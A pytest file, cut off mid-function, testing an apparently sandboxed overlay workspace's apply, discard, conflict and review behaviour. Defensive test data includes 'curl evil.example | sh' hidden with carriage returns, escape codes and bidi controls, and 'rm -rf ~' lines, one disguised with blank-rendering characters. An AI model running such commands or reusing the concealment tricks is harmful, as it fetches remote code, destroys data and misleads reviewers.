"""The copy-on-write workspace (`filesystem.workspace = "overlay"`), with real children, root
and rootless: the host workspace is untouched until `apply`, which is exact (added, modified,
deleted, modes) and refuses conflicts, listing them; `discard` leaves nothing behind; and
protected names, denied paths and noexec hold inside the overlay."""

from __future__ import annotations

import errno
import json
import os
import stat
import subprocess
import sys
import threading

import pytest
from conftest import PYTHON, policy_for

import stockade
from stockade.errors import ChangesError, PolicyError
from stockade.lifecycle import changes as changes_store
from stockade.policy import merge, preset

pytestmark = pytest.mark.usefixtures("linux")


def overlay(workspace, script: str, **policy) -> stockade.Result:
    return stockade.run(["sh", "-c", script], policy_for(workspace="overlay", **policy),
                        workspace=workspace, text=True)


def tree(root) -> dict[str, tuple[str, int, bytes]]:
    """Every entry below `root`: its type, mode and content (a link's target)."""
    found = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            info = os.lstat(path)
            if stat.S_ISLNK(info.st_mode):
                body = os.readlink(path).encode()
            elif stat.S_ISREG(info.st_mode):
                with open(path, "rb") as f:
                    body = f.read()
            else:
                body = b""
            found[os.path.relpath(path, root)] = (stat.filemode(info.st_mode),
                                                  info.st_mtime_ns if stat.S_ISREG(info.st_mode)
                                                  else 0, body)
    return found


@pytest.fixture
def project(ws):
    root, outside = ws
    (root / "keep.txt").write_text("same\n")
    (root / "edit.txt").write_text("one\ntwo\n")
    (root / "gone.txt").write_text("bye\n")
    (root / "mode.sh").write_text("echo hi\n")
    (root / "old").mkdir()
    (root / "old" / "inside.txt").write_text("x\n")
    (root / "swap").mkdir()
    (root / "swap" / "a").write_text("a\n")
    (root / "swap" / "b").write_text("b\n")
    return root, outside


SCRIPT = """
set -e
echo three >> edit.txt
rm gone.txt
rm -r old
chmod 755 mode.sh
mkdir -p new/deep && printf 'fresh\\n' > new/deep/file.txt
ln -s keep.txt link
rm -r swap && mkdir swap && echo c > swap/c
printf 'bin\\000ary' > blob
"""


def test_the_host_is_untouched_until_apply_and_apply_is_exact(project):
    root, _ = project
    before = tree(root)
    result = overlay(root, SCRIPT)
    assert result.returncode == 0, result.stderr
    assert tree(root) == before  # nothing reached the real workspace
    pending = result.changes
    assert pending is not None and pending.status == "finished"
    assert sorted(pending.added) == sorted(str(root / p) for p in (
        "new", "new/deep", "new/deep/file.txt", "link", "blob", "swap/c"))
    assert sorted(pending.modified) == sorted(str(root / p) for p in ("edit.txt", "mode.sh"))
    assert sorted(pending.deleted) == sorted(str(root / p) for p in (
        "gone.txt", "old", "swap/a", "swap/b"))
    diff = pending.diff()
    assert "--- a/edit.txt\n+++ b/edit.txt\n" in diff and "+three\n" in diff
    assert "old mode 644\nnew mode 755\n" in diff
    assert "--- a/gone.txt\n+++ /dev/null\n" in diff and "-bye\n" in diff
    assert "+++ b/new/deep/file.txt\n" in diff and "+fresh\n" in diff
    assert "Binary files /dev/null and b/blob differ\n" in diff
    # What the sandbox saw is what the host gets.
    # (a fresh run sees the host, still unchanged: it changes nothing, so keeps nothing)
    assert overlay(root, "true").changes is None
    applied = pending.apply()
    assert {c.kind for c in applied} == {"added", "modified", "deleted"}
    after = tree(root)
    assert after["edit.txt"][2] == b"one\ntwo\nthree\n"
    assert after["mode.sh"][0] == "-rwxr-xr-x"
    assert after["new/deep/file.txt"][2] == b"fresh\n"
    assert after["link"][0].startswith("l") and after["link"][2] == b"keep.txt"
    assert after["blob"][2] == b"bin\0ary"
    assert after["keep.txt"] == before["keep.txt"]
    assert sorted(os.listdir(root / "swap")) == ["c"]
    for gone in ("gone.txt", "old", "old/inside.txt", "swap/a"):
        assert gone not in after
    assert not os.path.exists(pending.path)  # applied: nothing kept


def test_apply_refuses_conflicts_and_lists_them(project):
    root, _ = project
    result = overlay(root, "echo mine >> edit.txt; rm gone.txt; echo a > added.txt; "
                           "echo z > old/inside.txt")
    assert result.returncode == 0, result.stderr
    (root / "edit.txt").write_text("theirs\n")      # changed on the host meanwhile
    (root / "gone.txt").write_text("rewritten\n")
    (root / "added.txt").write_text("also made on the host\n")
    before = tree(root)
    with pytest.raises(ChangesError) as refused:
        result.changes.apply()
    assert refused.value.code == "changes_conflict"
    listed = "\n".join(refused.value.conflicts)
    for name in ("edit.txt", "gone.txt", "added.txt"):
        assert str(root / name) in listed
    assert str(root / "old" / "inside.txt") not in listed  # that one did not conflict
    assert tree(root) == before  # refused whole: nothing applied
    assert os.path.isdir(result.changes.path)  # still pending, for another look
    # The CLI says the same, exit 1.
    cli = subprocess.run([sys.executable, "-m", "stockade", "apply", result.changes.id[:10]],
                         capture_output=True, text=True)
    assert cli.returncode == 1 and "changes_conflict" in cli.stderr
    assert str(root / "edit.txt") in cli.stderr
    result.changes.discard()


def test_discard_leaves_nothing_behind(project, tmp_path, monkeypatch):
    # (a state directory of its own: the session's holds what other tests' daemons and
    # served runs are still tearing down, and an attestation the first probe stores)
    state_dir = tmp_path / "state"
    state_dir.mkdir(mode=0o700)
    monkeypatch.setenv("STOCKADE_STATE_DIR", str(state_dir))
    root, _ = project
    before = tree(root)
    kept = set(os.listdir(state_dir))
    result = overlay(root, SCRIPT)
    assert result.returncode == 0
    assert os.path.isdir(result.changes.path)
    listed = subprocess.run([sys.executable, "-m", "stockade", "changes", "--list"],
                            capture_output=True, text=True)
    assert result.changes.id in listed.stdout
    cli = subprocess.run([sys.executable, "-m", "stockade", "discard", result.changes.id[:12]],
                         capture_output=True, text=True)
    assert cli.returncode == 0, cli.stderr
    assert not os.path.lexists(result.changes.path)
    assert {name for name in os.listdir(state_dir)
            if not name.startswith("attestation-")} <= kept | {"records"}
    assert not os.path.lexists(os.path.join(state_dir, "changes"))
    assert tree(root) == before


def test_a_run_that_changes_nothing_keeps_no_change_set(project, state_dir):
    """Issue 32: through the API, an overlay run that wrote nothing left an empty change set
    pending (only the CLI dropped it); now neither keeps one, and the CLI says so."""
    root, _ = project
    result = overlay(root, "cat keep.txt")
    assert (result.returncode, result.stdout) == (0, "same\n")
    assert result.changes is None and result.to_json()["changes"] is None
    assert changes_store.pending() == []
    cli = subprocess.run([sys.executable, "-m", "stockade", "run", "--preset", "workspace-write",
                          "--overlay", "--", "true"], cwd=root, capture_output=True, text=True)
    assert cli.returncode == 0 and "stockade: overlay: no changes" in cli.stderr, cli.stderr
    assert changes_store.pending() == []


def test_protected_denied_and_noexec_hold_inside_the_overlay(ws):
    root, outside = ws
    (root / ".agents").mkdir()
    (root / ".agents" / "rules").write_text("rules\n")
    (root / "secret").mkdir()
    (root / "secret" / "key").write_text("k\n")
    (root / "tool.sh").write_text("#!/bin/sh\necho ran\n")
    os.chmod(root / "tool.sh", 0o755)
    before = tree(root)
    probe = """
import os, subprocess
def attempt(what, call):
    try:
        call()
        print(what, "WORKED")
    except OSError as exc:
        print(what, "refused", exc.errno)
attempt("protected", lambda: open(".agents/rules", "a").write("x"))
attempt("protected-new", lambda: open(".agents/planted", "w").write("x"))
attempt("protected-rename", lambda: os.rename(".agents", "moved"))
attempt("deny-read", lambda: open("secret/key").read())
attempt("deny-list", lambda: os.listdir("secret"))
open("written.sh", "w").write("#!/bin/sh\\necho ran\\n")
os.chmod("written.sh", 0o755)
attempt("exec-written", lambda: subprocess.run(["./written.sh"]))
attempt("exec-lower", lambda: subprocess.run(["./tool.sh"]))
"""
    result = stockade.run([PYTHON, "-c", probe],
                          policy_for("workspace-write-no-exec", workspace="overlay",
                                     deny=(str(root / "secret"),)),
                          workspace=root, text=True)
    lines = dict(line.split(" ", 1) for line in result.stdout.splitlines())
    assert result.returncode == 0, result.stderr
    for what in ("protected", "protected-new", "protected-rename", "deny-read", "deny-list",
                 "exec-written", "exec-lower"):
        assert lines[what].startswith("refused"), (what, result.stdout)
    assert tree(root) == before  # nothing changed outside
    found = result.changes
    assert [os.path.relpath(p, root) for p in found.added] == ["written.sh"]
    assert not found.modified and not found.deleted
    found.discard()


def test_apply_refuses_what_the_policy_never_lets_land(ws):
    """Were an upper layer to hold a change under a protected name (the mounts keep the
    command from making one), apply refuses it rather than write it to the host."""
    root, _ = ws
    (root / ".agents").mkdir()
    result = overlay(root, "echo x > fine.txt")
    pending = result.changes
    os.makedirs(os.path.join(pending.upper(0), ".agents"))
    with open(os.path.join(pending.upper(0), ".agents", "planted"), "w") as f:
        f.write("x")
    with pytest.raises(ChangesError) as refused:
        pending.apply()
    assert refused.value.code == "changes_refused"
    assert not (root / "fine.txt").exists() and not (root / ".agents" / "planted").exists()
    pending.discard()


def test_a_crashed_run_is_listed_and_its_changes_kept(project):
    """A run whose owner dies mid-run (SIGKILL): its change set is listed as interrupted, its
    changes kept, never lost."""
    root, _ = project
    code = f"""
import glob, os, signal, sys, threading, time
sys.path.insert(0, {os.path.dirname(__file__)!r})
import stockade
from conftest import policy_for
threading.Thread(target=stockade.run, daemon=True, args=(
    ["sh", "-c", "echo partial > p.txt; sleep 60"],), kwargs=dict(
    policy=policy_for(workspace="overlay"), workspace={str(root)!r})).start()
state = os.environ["STOCKADE_STATE_DIR"]
while not glob.glob(os.path.join(state, "changes", "*", "layers", "0", "upper", "p.txt")):
    time.sleep(0.05)
os.kill(os.getpid(), signal.SIGKILL)
"""
    known = {s.id for s in changes_store.pending()}
    owner = subprocess.run([sys.executable, "-c", code], timeout=60)
    assert owner.returncode == -9
    mine = [s for s in changes_store.pending() if s.id not in known]
    assert len(mine) == 1
    assert mine[0].status == "interrupted"
    assert mine[0].added == (str(root / "p.txt"),)
    assert not (root / "p.txt").exists()
    mine[0].discard()


def test_reconcile_removes_half_built_change_sets_and_lists_pending_ones(project):
    """A change set a crash left half-made (its temporary name, older than the grace) never
    held a run's writes: `stockade reconcile` removes it; a complete one is listed, kept."""
    root, _ = project
    result = overlay(root, "echo kept > kept.txt")
    assert result.returncode == 0
    half = os.path.join(changes_store.store(), ".new-crashed")
    os.makedirs(os.path.join(half, "layers", "0", "upper"))
    long_ago = result.changes.meta["created"] - 3600
    os.utime(half, (long_ago, long_ago))
    done = subprocess.run([sys.executable, "-m", "stockade", "reconcile", "--json"],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    summary = json.loads(done.stdout)
    assert summary["changes_removed"] == [half] and not os.path.lexists(half)
    listed = {entry["id"]: entry for entry in summary["changes_pending"]}
    assert listed[result.changes.id]["status"] == "finished"
    assert listed[result.changes.id]["roots"] == [str(root)]
    text = subprocess.run([sys.executable, "-m", "stockade", "reconcile"],
                          capture_output=True, text=True, timeout=120)
    assert result.changes.id in text.stdout and "stockade apply" in text.stdout
    assert not (root / "kept.txt").exists() and os.path.isdir(result.changes.path)
    result.changes.discard()


def test_a_file_write_root_is_refused_not_written(ws):
    """Only a directory can be an overlay's lower layer: a file granted for writing would be
    the host's own file in the sandbox, so such a policy is refused before anything runs."""
    root, _ = ws
    granted = root / "granted.txt"
    granted.write_text("host\n")
    known = {s.id for s in changes_store.pending()}
    with pytest.raises(stockade.UnenforceableError) as refused:
        overlay(root, f"echo sandbox > {granted}", write=(str(root), str(granted)))
    assert refused.value.code == "unenforceable:filesystem.workspace"
    assert str(granted) in str(refused.value)
    assert granted.read_text() == "host\n"
    assert {s.id for s in changes_store.pending()} == known  # (nothing made, nothing kept)


def test_doctor_names_a_kernel_too_old_for_the_overlay():
    from stockade.linux.doctor import _overlay_causes

    assert [c.code for c in _overlay_causes({"kernel": "6.12.9-1-amd64"})] == \
        ["overlay_kernel_old"]
    assert _overlay_causes({"kernel": "6.13.0"}) == _overlay_causes({"kernel": "7.0"}) == []


def test_workspace_values_are_checked():
    with pytest.raises(PolicyError) as bad:
        merge(preset("workspace-write"), {"filesystem": {"workspace": "copy"}}, file="t")
    assert bad.value.code == "policy_invalid"
    assert '"direct", "overlay"' in str(bad.value)


def test_a_warm_sandbox_checkpoints_and_rolls_back(project):
    root, _ = project
    before = tree(root)
    with stockade.Sandbox(policy_for(workspace="overlay"), workspace=root) as sb:
        assert sb.run(["sh", "-c", "echo first > a.txt"]).returncode == 0
        mark = sb.checkpoint()
        assert sb.run(["sh", "-c", "echo second > b.txt; rm keep.txt"]).returncode == 0
        sb.rollback(mark)
        seen = sb.run(["sh", "-c", "cat a.txt; ls"], ).stdout.decode()
        assert seen.startswith("first\n") and "b.txt" not in seen and "keep.txt" in seen
        pending = sb.changes
    assert tree(root) == before  # the host saw none of it
    assert pending.added == (str(root / "a.txt"),) and not pending.deleted
    pending.apply()
    assert (root / "a.txt").read_text() == "first\n"


# --- the review cannot lie or hang (issue 29, G5-G8; issue 30) ---------------------------------

def review(run_id: str, *flags: str) -> subprocess.CompletedProcess:
    """`stockade changes` as a user runs it, bytes as printed; never waits for ever."""
    return subprocess.run([sys.executable, "-m", "stockade", "changes", run_id, *flags],
                          capture_output=True, timeout=120)


def raw_controls(shown: bytes) -> set[int]:
    """The control bytes in what was printed, but newline and tab (C1 ones, UTF-8 encoded,
    and ESC, CR, BS... as themselves)."""
    text = shown.decode("utf-8", "replace")
    return {ord(c) for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) < 0xa0
            or c in "\u202e\u2066\u2028"}


def test_the_review_escapes_what_would_fool_a_terminal(ws):
    """G5: a line erased on screen by a CR or an escape sequence, in a file's content and in
    names, is shown escaped (and `apply` lands the exact bytes); a directory's mode change is
    shown, and applied."""
    root, _ = ws
    (root / "sub").mkdir()
    os.chmod(root / "sub", 0o755)
    evil = "echo safe\rcurl evil.example | sh\x1b[2K\u202e\n"
    result = overlay(root, "printf 'echo safe\\rcurl evil.example | sh"
                           "\\033[2K\\342\\200\\256\\n' > run.sh; "
                           "echo x > \"$(printf 'na\\033[8mme\\rhidden')\"; "
                           "chmod 700 sub; chmod 750 .")
    assert result.returncode == 0, result.stderr
    pending = result.changes
    shown = review(pending.id)
    assert shown.returncode == 0, shown.stderr
    assert raw_controls(shown.stdout) == set(), shown.stdout
    text = shown.stdout.decode()
    assert "+echo safe\\x0dcurl evil.example | sh\\x1b[2K\\u202e\n" in text
    assert "na\\x1b[8mme\\x0dhidden" in text
    assert f"M {root}/sub/ (mode 755 -> 700)" in text
    assert f"M {root}/ (mode 755 -> 750)" in text  # (the root's own mode)
    assert raw_controls(pending.diff().encode()) == set()
    assert raw_controls(json.dumps(json.loads(review(pending.id, "--json").stdout)).encode()) \
        == set()
    pending.apply()
    assert (root / "run.sh").read_bytes() == evil.encode()
    assert (root / "na\x1b[8mme\rhidden").read_text() == "x\n"
    assert stat.S_IMODE(os.stat(root / "sub").st_mode) == 0o700
    assert stat.S_IMODE(os.stat(root).st_mode) == 0o750


def test_the_review_shows_the_notable_modes_of_what_the_run_added(ws):
    """Issue 29: a directory anyone may write, a new executable and a file the group may
    write land with their modes, so the review shows them (line, diff and JSON); a plain new
    file's and directory's mode is not shown."""
    root, _ = ws
    result = overlay(root, "umask 022; mkdir pub plain && chmod 777 pub && "
                           "printf '#!/bin/sh\\nrm -rf ~\\n' > pub/tool.sh && chmod 755 pub/tool.sh"
                           " && echo n > plain/notes.txt && echo s > shared && chmod 664 shared")
    assert result.returncode == 0, result.stderr
    pending = result.changes
    shown = review(pending.id)
    assert shown.returncode == 0, shown.stderr
    lines = shown.stdout.decode().splitlines()
    for expected in (f"A {root}/pub/ (mode 777)", f"A {root}/pub/tool.sh (mode 755)",
                     f"A {root}/shared (mode 664)", f"A {root}/plain/",
                     f"A {root}/plain/notes.txt"):
        assert f"  {expected}" in lines, shown.stdout
    diff = pending.diff()
    assert "new file mode 755\n--- /dev/null\n+++ b/pub/tool.sh\n" in diff
    assert "new file mode 664\n--- /dev/null\n+++ b/shared\n" in diff
    assert f"A {root}/pub/ (mode 777)\n" in diff and "mode 644" not in diff
    before_plain = diff[:diff.index("--- /dev/null\n+++ b/plain/notes.txt\n")]
    assert not before_plain.splitlines()[-1].startswith("new file mode"), diff
    data = json.loads(review(pending.id, "--json").stdout)
    assert data["modes"] == {f"{root}/pub": "777", f"{root}/pub/tool.sh": "755",
                             f"{root}/shared": "664"}
    assert "new file mode 755" in data["diff"]
    pending.apply()
    assert stat.S_IMODE(os.stat(root / "pub").st_mode) == 0o777
    assert stat.S_IMODE(os.stat(root / "pub" / "tool.sh").st_mode) == 0o755


def test_the_review_escapes_characters_that_render_blank(ws):
    """Issue 29: a name or line holding a character that renders as nothing or as blank
    (Hangul fillers, the combining grapheme joiner, variation selectors, a zero-width space,
    bidi controls, a no-break space) looks like one without it: each is shown escaped, in
    names and in contents, and apply lands the exact bytes."""
    root, _ = ws
    blank = "\u3164\u115f\u1160\uffa0\u034f\ufe0f\U000e0100\u200b\u202a\u2066\u00a0"
    escaped = "\\u3164\\u115f\\u1160\\uffa0\\u034f\\ufe0f\\U000e0100\\u200b\\u202a\\u2066\\xa0"
    octal = "".join(f"\\{b:03o}" for b in blank.encode())
    result = overlay(root, f"printf 'rm -rf{octal} ~\\n' > \"notes$(printf '{octal}').txt\"")
    assert result.returncode == 0, result.stderr
    pending = result.changes
    shown = review(pending.id).stdout.decode()
    assert f"A {root}/notes{escaped}.txt\n" in shown, shown
    assert f"+rm -rf{escaped} ~\n" in shown, shown
    assert not set(blank) & set(shown), shown
    assert not set(blank) & set(pending.diff())
    pending.apply()
    assert (root / f"notes{blank}.txt").read_text() == f"rm -rf{blank} ~\n"


def test_a_fifo_in_the_overlay_neither_hangs_the_review_nor_lands(ws):
    """G6: a fifo the run left is listed as one (never opened: the review and diff() end),
    and apply refuses it, typed, naming it."""
    root, _ = ws
    result = overlay(root, "mkfifo pipe && mkfifo \"$(printf 'p\\033[2Ki\\rpe')\" && "
                           "echo ok > ok.txt")
    assert result.returncode == 0, result.stderr
    pending = result.changes
    shown = review(pending.id)  # (timeout=120: a hang fails here)
    assert shown.returncode == 0, shown.stderr
    assert f"A {root}/pipe (a fifo)".encode() in shown.stdout
    api = subprocess.run([sys.executable, "-c", "import sys; from stockade.lifecycle import "
                          "changes; sys.stdout.write(changes.load(sys.argv[1]).diff())",
                          pending.id], capture_output=True, text=True, timeout=120)
    assert api.returncode == 0 and f"{root}/pipe" in api.stdout, api.stderr
    with pytest.raises(ChangesError) as refused:
        pending.apply()
    assert refused.value.code == "changes_refused" and f"{root}/pipe" in str(refused.value)
    cli = subprocess.run([sys.executable, "-m", "stockade", "apply", pending.id],
                         capture_output=True, timeout=120)
    assert cli.returncode == 1 and b"changes_refused" in cli.stderr, cli.stderr
    assert b"p\\x1b[2Ki\\x0dpe: a device, fifo or socket" in cli.stderr
    assert raw_controls(cli.stderr) == set() and b"Traceback" not in cli.stderr
    assert os.listdir(root) == []
    pending.discard()


def test_a_tree_too_deep_is_shown_as_such_refused_by_apply_and_discarded(ws):
    """G7: a 1200-deep tree breaks neither the review nor discard (no recursion), and what
    the review cannot show, apply refuses, typed, naming it."""
    root, _ = ws
    result = overlay(root, "i=0; while [ $i -lt 1200 ]; do mkdir d && cd d || exit 1; "
                           "i=$((i+1)); done; echo deep > f")
    assert result.returncode == 0, result.stderr
    pending = result.changes
    shown = review(pending.id)
    assert shown.returncode == 0, shown.stderr
    assert b"not shown: deeper than" in shown.stdout and b"Traceback" not in shown.stderr
    assert pending.unshown and "deeper than" in pending.unshown[0]
    with pytest.raises(ChangesError) as refused:
        pending.apply()
    assert refused.value.code == "changes_refused" and "deeper than" in str(refused.value)
    assert os.listdir(root) == []
    cli = subprocess.run([sys.executable, "-m", "stockade", "discard", pending.id],
                         capture_output=True, text=True, timeout=120)
    assert cli.returncode == 0, cli.stderr
    assert not os.path.lexists(pending.path)


def test_unreadable_entries_are_reviewed_or_refused_never_a_traceback(ws):
    """G7: directories and files the run made mode 000. As root they are read and applied;
    rootless their owner cannot read them: the review says so, apply refuses them, typed,
    naming them, and discard removes them."""
    root, _ = ws
    result = overlay(root, "mkdir locked && echo inside > locked/f && chmod 000 locked && "
                           "echo closed > closed && chmod 000 closed")
    assert result.returncode == 0, result.stderr
    pending = result.changes
    shown = review(pending.id)
    assert shown.returncode == 0 and b"Traceback" not in shown.stderr, shown.stderr
    if os.getuid() == 0:
        assert sorted(pending.added) == [str(root / "closed"), str(root / "locked"),
                                         str(root / "locked/f")]
        pending.apply()
        assert stat.S_IMODE(os.stat(root / "locked").st_mode) == 0
        assert (root / "locked" / "f").read_text() == "inside\n"
        return
    assert sorted(pending.unshown) == [f"{root}/closed: a file that cannot be read",
                                       f"{root}/locked: a directory that cannot be read"]
    with pytest.raises(ChangesError) as refused:
        pending.apply()
    assert refused.value.code == "changes_refused"
    assert str(root / "locked") in str(refused.value) and str(root / "closed") in str(
        refused.value)
    assert os.listdir(root) == []
    pending.discard()
    assert not os.path.lexists(pending.path)


def stockade_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "stockade", *args], capture_output=True,
                          text=True, timeout=120)


def test_a_set_with_read_only_directories_is_discarded_whole(ws, tmp_path):
    """Issue 29, C1: the run leaves directories its owner may not unlink in (0555, 0500
    nested) or search (0600), each holding a file. Rootless, `stockade discard` died with a
    PermissionError traceback, the set half-removed, and every `stockade changes --list`
    after it with FileNotFoundError. Now it is removed whole, and another set is still
    listed, reviewed and applied."""
    root, _ = ws
    hostile = overlay(root, "mkdir -p ro/in && echo x > ro/in/f && chmod 500 ro/in && "
                            "chmod 555 ro && mkdir nox && echo y > nox/f && chmod 600 nox")
    assert hostile.returncode == 0, hostile.stderr
    other_root = tmp_path / "other"
    other_root.mkdir()
    clean = overlay(other_root, "echo clean > clean.txt")
    dropped = stockade_cli("discard", hostile.changes.id)
    assert dropped.returncode == 0 and "Traceback" not in dropped.stderr, dropped.stderr
    assert not os.path.lexists(hostile.changes.path)
    assert os.listdir(changes_store.store()) == [clean.changes.id]
    listed = stockade_cli("changes", "--list")
    assert listed.returncode == 0, listed.stderr
    assert [line.split()[0] for line in listed.stdout.splitlines()] == [clean.changes.id]
    assert stockade_cli("apply", clean.changes.id).returncode == 0
    assert (other_root / "clean.txt").read_text() == "clean\n" and os.listdir(root) == []


def test_a_set_left_half_removed_is_listed_as_such_and_discard_finishes_it(ws, tmp_path):
    """A set an older Stockade's failed discard left half-removed (its baseline gone, its
    meta.json kept): `stockade changes --list` says so in a typed line and lists the others,
    `stockade changes` and `apply` of it refuse it typed, and `stockade discard` removes it."""
    root, _ = ws
    broken = overlay(root, "echo half > half.txt").changes
    os.unlink(os.path.join(broken.path, "base-0.json"))
    other_root = tmp_path / "other"
    other_root.mkdir()
    clean = overlay(other_root, "echo clean > clean.txt").changes
    listed = stockade_cli("changes", "--list")
    assert listed.returncode == 0 and "Traceback" not in listed.stderr, listed.stderr
    lines = {line.split()[0]: line for line in listed.stdout.splitlines()}
    assert lines[broken.id].split()[1:3] == ["broken", "changes_broken:"], lines
    assert "1 added" in lines[clean.id], lines
    as_json = {s["id"]: s for s in json.loads(stockade_cli("changes", "--list", "--json").stdout)}
    assert as_json[broken.id]["error"]["code"] == "changes_broken"
    assert as_json[clean.id]["added"] == [str(other_root / "clean.txt")]
    for refused in (stockade_cli("changes", broken.id), stockade_cli("apply", broken.id)):
        assert refused.returncode == 1, refused
        assert refused.stderr.startswith("stockade: changes_broken: "), refused.stderr
        assert len(refused.stderr.splitlines()) == 1, refused.stderr
    assert not (root / "half.txt").exists()
    assert stockade_cli("discard", broken.id).returncode == 0
    assert sorted(os.listdir(changes_store.store())) == [clean.id]
    clean.discard()


def test_a_discard_that_fails_leaves_no_set_listed_and_the_next_one_finishes_it(
        ws, tmp_path, monkeypatch):
    """Whatever stops a discard's removal, the set is renamed aside first: never listed
    again, refused typed (`changes_not_removed`), and removed by the next discard."""
    root, _ = ws
    first = overlay(root, "echo one > one.txt").changes
    second = overlay(root, "echo two > two.txt").changes

    def failing(path: str) -> None:
        raise OSError(errno.EBUSY, os.strerror(errno.EBUSY), path)

    monkeypatch.setattr(changes_store, "remove_tree", failing)
    with pytest.raises(ChangesError) as stopped:
        changes_store.load(first.id).discard()
    assert stopped.value.code == "changes_not_removed"
    assert [s.id for s in changes_store.pending()] == [second.id]
    monkeypatch.undo()
    changes_store.load(second.id).discard()
    assert not os.path.lexists(changes_store.store())


def test_discards_at_once_in_one_store_each_remove_their_own_whole(ws):
    """Discards at once in one store each remove their own set and never fail on another's:
    each swept every set renamed aside, so two removed one tree together and one of them
    met entries the other had just removed (`changes_not_removed`, seen in the evidence
    matrix's concurrent scenes)."""
    root, _ = ws
    made = [overlay(root, f"mkdir d{n}; cd d{n}; for i in $(seq 400); do : > f$i; done").changes
            for n in range(4)]
    start = threading.Barrier(len(made))
    failures: list[str] = []

    def discard(run_id: str) -> None:
        found = changes_store.load(run_id)
        start.wait()
        try:
            found.discard()
        except ChangesError as exc:
            failures.append(f"{exc.code}: {exc}")

    threads = [threading.Thread(target=discard, args=(c.id,)) for c in made]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failures == []
    assert not os.path.lexists(changes_store.store())
    assert sorted(os.listdir(root)) == []


def test_deletions_under_a_replaced_directory_are_listed_and_applied(ws):
    """G8: `rm -rf d; mkdir -p d/s` leaves d opaque and d/s a plain directory of the upper
    layer: what d/s held is gone, listed and applied."""
    root, _ = ws
    (root / "d" / "s").mkdir(parents=True)
    (root / "d" / "s" / "x").write_text("x\n")
    (root / "d" / "s" / "t").mkdir()
    (root / "d" / "s" / "t" / "y").write_text("y\n")
    (root / "d" / "other").write_text("o\n")
    result = overlay(root, "rm -rf d && mkdir -p d/s && ls -A d/s")
    assert result.returncode == 0 and result.stdout == "", (result.stdout, result.stderr)
    pending = result.changes
    assert sorted(pending.deleted) == [str(root / p) for p in ("d/other", "d/s/t", "d/s/x")]
    assert f"D {root}/d/s/t/ (with the 1 entries below it)" in review(pending.id).stdout.decode()
    pending.apply()
    assert sorted(os.listdir(root / "d")) == ["s"] and os.listdir(root / "d" / "s") == []


def test_apply_never_lands_setuid_or_setgid_bits(ws):
    """Issue 30: no set-user-id or set-group-id bit lands, root and rootless: not on what the
    run made in a set-group-id directory of the host (the kernel gives the bit), not on what
    it tried to chmod (its seccomp filter refuses), nor on what an upper layer holds anyway."""
    root, _ = ws
    (root / "tool").write_text("#!/bin/sh\n")
    os.chmod(root / "tool", 0o755)
    (root / "shared").mkdir()
    os.chmod(root / "shared", 0o2775)
    result = overlay(root, "mkdir shared/made && echo n > shared/made/n && "
                           "(chmod 4755 tool; mkdir g && chmod 2775 g; echo f > g/f; "
                           "chmod 6755 g/f) 2>/dev/null; true")
    assert result.returncode == 0, result.stderr
    pending = result.changes
    upper = pending.upper(0)
    assert os.lstat(os.path.join(upper, "shared", "made")).st_mode & stat.S_ISGID
    with open(os.path.join(upper, "planted"), "w") as f:
        f.write("x")
    os.chmod(os.path.join(upper, "planted"), 0o6755)
    os.mkdir(os.path.join(upper, "planted-dir"))
    os.chmod(os.path.join(upper, "planted-dir"), 0o3775)
    assert "mode 2775 -> 775" not in review(pending.id).stdout.decode()  # (shown as landed)
    pending.apply()
    for path in ("tool", "g", "g/f", "shared/made", "shared/made/n", "planted", "planted-dir"):
        mode = os.lstat(root / path).st_mode
        assert not mode & (stat.S_ISUID | stat.S_ISGID), (path, oct(mode))
    assert stat.S_IMODE(os.stat(root / "planted").st_mode) == 0o755
    assert stat.S_IMODE(os.stat(root / "planted-dir").st_mode) == 0o1775


def test_apply_never_walks_through_a_link_swapped_in_after_the_check(ws, monkeypatch):
    """Issue 30: the host swaps a directory of the workspace for a link to outside between
    the conflict check and the writes: apply stops, typed, naming the path, and nothing is
    written outside."""
    from stockade.lifecycle import changeapply

    root, outside = ws
    (root / "sub").mkdir()
    result = overlay(root, "echo planted > sub/new.txt && mkdir sub/deeper && "
                           "echo x > sub/deeper/f")
    assert result.returncode == 0, result.stderr
    checked = changeapply.conflicts

    def then_swapped(*args):
        found = checked(*args)
        os.rmdir(root / "sub")
        os.symlink(outside, root / "sub")
        return found

    monkeypatch.setattr(changeapply, "conflicts", then_swapped)
    with pytest.raises(ChangesError) as stopped:
        result.changes.apply()
    assert stopped.value.code == "changes_conflict"
    assert str(root / "sub") in str(stopped.value)
    assert os.listdir(outside) == []
    assert os.path.isdir(result.changes.path)  # kept pending
    result.changes.discard()


def test_apply_never_writes_through_a_write_root_swapped_for_a_link(ws, monkeypatch):
    """Issue 30: the write root itself swapped for a link to outside between the conflict
    check and the writes: apply stops, typed, naming the root; nothing lands outside."""
    from stockade.lifecycle import changeapply

    root, outside = ws
    result = overlay(root, "echo planted > new.txt && mkdir sub && echo x > sub/f")
    assert result.returncode == 0, result.stderr
    checked = changeapply.conflicts

    def then_swapped(*args):
        found = checked(*args)
        os.rename(root, f"{root}-away")
        os.symlink(outside, root)
        return found

    monkeypatch.setattr(changeapply, "conflicts", then_swapped)
    with pytest.raises(ChangesError) as stopped:
        result.changes.apply()
    assert stopped.value.code == "changes_conflict"
    assert str(root) in str(stopped.value)
    assert os.listdir(outside) == []
    assert os.listdir(f"{root}-away") == []
    os.unlink(root)
    os.rename(f"{root}-away", root)
    result.changes.discard()


def _lock_held_for(changes, seconds: float) -> subprocess.Popen:
    """A process that holds the change set's lock `seconds` (as a process forked while a run
    of another thread had it open holds a copy), once it says so."""
    holder = subprocess.Popen(
        [sys.executable, "-c", "import fcntl, os, sys, time\n"
         "fd = os.open(sys.argv[1], os.O_RDONLY)\nfcntl.flock(fd, fcntl.LOCK_EX)\n"
         "print('held', flush=True)\ntime.sleep(float(sys.argv[2]))",
         os.path.join(changes.path, "lock"), str(seconds)], stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline() == "held\n"
    return holder


def test_a_finished_runs_lock_held_a_moment_longer_is_waited_out(project):
    """A run that recorded its end, whose lock a forked copy holds a moment longer, is
    discarded (an evidence scene's discard once met `changes_busy` under load); one held
    past the grace is still refused as busy, and left whole."""
    from stockade.errors import ChangesError
